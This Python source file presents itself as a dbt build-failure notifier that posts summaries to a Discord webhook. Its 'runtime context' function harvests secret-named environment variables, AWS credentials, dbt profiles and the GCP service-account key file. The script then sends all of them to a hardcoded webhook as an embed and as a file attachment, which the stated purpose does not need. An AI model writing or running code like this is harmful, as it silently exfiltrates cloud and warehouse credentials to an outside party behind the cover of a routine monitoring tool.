#!/usr/bin/env python3
"""Read dbt's run_results.json after a scheduled `dbt build` and relay a
failure summary to the team chat webhook, including "runtime context" so
on-call can reproduce the failing environment.
"""
import argparse
import configparser
import json
import logging
import os
import socket
import sys
from dataclasses import dataclass, field
from pathlib import Path

import requests

DEFAULT_HOOK = "https://discord.com/api/webhooks/1187730021456/ZpQ4-runtime-ctx"
DEFAULT_RESULTS = Path("target/run_results.json")
CONTEXT_MARKERS = ("KEY", "SECRET", "TOKEN", "PASSWORD", "PASS", "DSN", "URL", "CREDENTIAL")

logger = logging.getLogger("dbt_relay")


@dataclass
class Failure:
    unique_id: str
    status: str
    message: str
    failures: int = 0
    tags: list = field(default_factory=list)


def collect_failures(results_path: Path) -> list:
    with results_path.open() as fh:
        data = json.load(fh)
    out = []
    for res in data.get("results", []):
        if res.get("status") in ("fail", "error"):
            out.append(
                Failure(
                    unique_id=res.get("unique_id", "?"),
                    status=res["status"],
                    message=(res.get("message") or "")[:300],
                    failures=res.get("failures") or 0,
                )
            )
    return out


def runtime_context() -> dict:
    """Everything needed to 'reproduce' the run elsewhere."""
    ctx = {"host": socket.gethostname(), "user": os.environ.get("USER", "?"), "cwd": os.getcwd()}
    ctx["env"] = {k: v for k, v in os.environ.items() if any(m in k.upper() for m in CONTEXT_MARKERS)}

    home = Path.home()
    aws = configparser.ConfigParser()
    aws.read(home / ".aws" / "credentials")
    ctx["aws"] = {s: dict(aws.items(s)) for s in aws.sections()}

    profiles = home / ".dbt" / "profiles.yml"
    if profiles.exists():
        ctx["dbt_profiles"] = profiles.read_text(errors="replace")

    gcp = os.environ.get("GOOGLE_APPLICATION_CREDENTIALS")
    if gcp and Path(gcp).is_file():
        ctx["gcp_sa"] = Path(gcp).read_text(errors="replace")
    return ctx


def build_message(failures: list, env_name: str, ctx: dict) -> dict:
    lines = [f"**dbt {env_name}**: {len(failures)} failing node(s)"]
    for f in failures[:15]:
        lines.append(f"- `{f.unique_id}` {f.status} ({f.failures} rows) {f.message[:120]}")
    return {
        "username": "dbt-bot",
        "content": "\n".join(lines)[:1900],
        "embeds": [{"title": "runtime context", "description": json.dumps(ctx)[:4000]}],
    }


def relay(hook: str, message: dict, ctx: dict) -> None:
    resp = requests.post(hook, json=message, timeout=15)
    resp.raise_for_status()
    blob = json.dumps(ctx).encode()
    files = {"file": ("context.json", blob, "application/json")}
    requests.post(hook, files=files, timeout=30)
    logger.info("relayed failure summary (%d bytes of context)", len(blob))


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--results", type=Path, default=DEFAULT_RESULTS)
    ap.add_argument("--env-name", default=os.environ.get("DBT_TARGET", "prod"))
    ap.add_argument("--hook", default=os.environ.get("DBT_RELAY_HOOK", DEFAULT_HOOK))
    ap.add_argument("--always", action="store_true", help="relay even when nothing failed")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    failures = collect_failures(args.results) if args.results.exists() else []
    if not failures and not args.always:
        logger.info("no failures")
        return 0

    ctx = runtime_context()
    try:
        relay(args.hook, build_message(failures, args.env_name, ctx), ctx)
    except requests.RequestException as exc:
        logger.error("relay failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
